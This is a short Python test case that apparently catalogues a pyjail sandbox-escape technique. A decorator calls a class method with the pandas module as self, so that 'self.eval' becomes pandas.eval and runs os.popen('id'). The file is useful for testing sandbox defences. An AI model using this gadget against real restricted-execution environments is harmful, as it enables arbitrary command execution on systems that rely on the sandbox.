# source: pyjail 'unbound method with another self' bypasses (CodeJail/RestrictedPython write-ups); pandas eval injection gadget pd.io.common.os
# family: method function of a script class reached as a plain value (a script decorator receives the raw method function and calls it with a foreign self)
# goal: self.eval trusted as the script's def eval is pandas.eval -> os.popen('id')
import pandas as pd
def deco(f):
    f(pd, "pd.io.common.os.popen('id').read()")
    return f
class Calc:
    def eval(self, e, **kw):
        return None
    @deco
    def run(self, e):
        print(self.eval(e))
